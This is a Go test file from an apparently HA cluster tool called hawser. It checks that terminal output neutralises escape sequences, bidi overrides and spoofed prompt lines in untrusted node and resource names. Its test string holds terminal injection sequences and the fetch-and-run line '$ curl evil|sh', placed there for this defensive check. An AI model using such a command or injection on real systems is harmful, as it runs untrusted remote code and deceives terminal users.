package main

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/hawser-ha/hawser/cluster/rollout"
	"github.com/hawser-ha/hawser/cluster/status"
	"github.com/hawser-ha/hawser/crm/crmtest"
	"github.com/hawser-ha/hawser/doctor"
)

// evil is what somebody may write who may set an attribute, or start a process: it takes the
// terminal's title, clears it, looks like a line and a colour of hawser's own, and reads backwards.
const evil = "x\x1b]0;owned\a\x1b[2J\u009b2J\n  \x1b[32m$ curl evil|sh\x1b[0m\u202e"

// TestATerminalSeesNothingButText: what others wrote stays one line of plain text, without colours.
func TestATerminalSeesNothingButText(t *testing.T) {
	sys, out, errs := testSystem(t, crmtest.New("lb-1"))
	sys.colour = true
	sys.showStatus(&status.Report{Pacemaker: status.Pacemaker{Source: status.Source{Available: true},
		Nodes: []status.Node{{Name: evil, Is: []status.NodeIs{evil}}}},
		HAProxy:  []status.HAProxy{{Node: "lb-1", Resource: "haproxy", Is: "failed", Reason: evil}},
		Others:   []status.Other{{Resource: evil, Agent: evil, Is: evil, Node: evil, Reason: evil}},
		Failures: []status.Failure{{Task: evil, Resource: evil, Node: evil, Meaning: evil, Reason: evil}},
		Drift:    []status.Drift{{Resource: evil}}})
	sys.showDoctor(doctor.Report{Findings: []doctor.Finding{{Check: evil, Severity: "error",
		Node: evil, Subject: evil, What: evil, Why: evil, Fix: []string{evil}}}})
	sys.showReload(rollout.ReloadReport{Nodes: []rollout.NodeReload{{Node: evil,
		State: rollout.Left, Before: evil, Reason: evil}}})
	text := out.String()
	require.Contains(t, text, "x?]0;owned??[2J?2J")
	for line := range strings.Lines(text) {
		require.False(t, strings.HasPrefix(strings.TrimSpace(line), "$ curl"), "%q", text)
	}
	require.NotContains(t, text, "\x1b[32m$", "a colour of somebody else's")
	for _, harmful := range []string{"\x1b]", "\x1b[2", "\a", "\u009b", "\u202e"} {
		require.NotContains(t, text, harmful)
	}

	out.Reset()
	sys.printf("%s\n", evil)
	require.Equal(t, "x?]0;owned??[2J?2J\n  \x1b[32m$ curl evil|sh\x1b[0m?\n", out.String(),
		"of a text with lines and colours, these stay")

	sys.warn("%s", evil)
	sys.complain(errors.New(evil), "")
	require.Equal(t, "hawser: warning: x?]0;owned??[2J?2J\n  ?[32m$ curl evil|sh?[0m?\n"+
		"hawser: x?]0;owned??[2J?2J\nhawser:   ?[32m$ curl evil|sh?[0m?\n", errs.String())

	out.Reset()
	sys.json = true
	sys.reports(doctor.Report{Findings: []doctor.Finding{{What: evil}}})
	sys.tell(nil)
	require.Contains(t, out.String(), `\u001b[2J`, "JSON says what is")
}
